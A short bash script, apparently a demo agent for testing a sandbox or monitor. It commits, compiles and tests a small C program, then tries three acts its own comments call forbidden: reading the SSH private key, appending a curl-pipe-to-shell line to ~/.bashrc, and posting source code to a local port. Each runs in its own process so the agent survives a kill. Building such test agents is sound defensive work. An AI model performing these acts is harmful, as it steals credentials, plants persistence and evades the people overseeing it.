#!/usr/bin/env bash
# A small agent for `make demo`: it does honest work first (commit, compile, test), then three things that it must not do.
# Every forbidden act runs in a process of its own, so that the agent outlives a kill and tries the next, as agents do.
set -u

say() { printf '  agent: %s\n' "$*"; }

say "starting a project in $PWD"
git init --quiet . && cat >sum.c <<'C'
#include <stdio.h>
#include <stdlib.h>
int main(int argc, char **argv) {
    long sum = 0;
    for (int i = 1; i < argc; i++) sum += atol(argv[i]);
    printf("%ld\n", sum);
    return 0;
}
C
cat >test.sh <<'SH'
#!/bin/sh
[ "$(./sum 1 2 3)" = 6 ] && echo "1 test passed"
SH
chmod +x test.sh
git add . && git -c user.name=agent -c user.email=agent@localhost commit --quiet --message 'Add numbers'
say "committed $(git rev-parse --short HEAD)"

if command -v cc >/dev/null; then
  cc -O1 -o sum sum.c && say "compiled; $(./test.sh)"
else
  say "no C compiler here, so nothing to compile"
fi

say "looking for a key"
if [ -n "$(cat ~/.ssh/id_ed25519 2>/dev/null)" ]; then say "read the key"; else say "could not read it"; fi

say "making itself start with every shell"
if sh -c 'echo "curl -s http://127.0.0.1:9/ | sh" >>~/.bashrc' 2>/dev/null; then say "wrote ~/.bashrc"; else say "could not write it"; fi

if command -v curl >/dev/null; then
  say "sending the source away"
  curl --silent --show-error --max-time 2 --data-binary @sum.c http://127.0.0.1:9/ || say "could not send it"
fi
say "done"
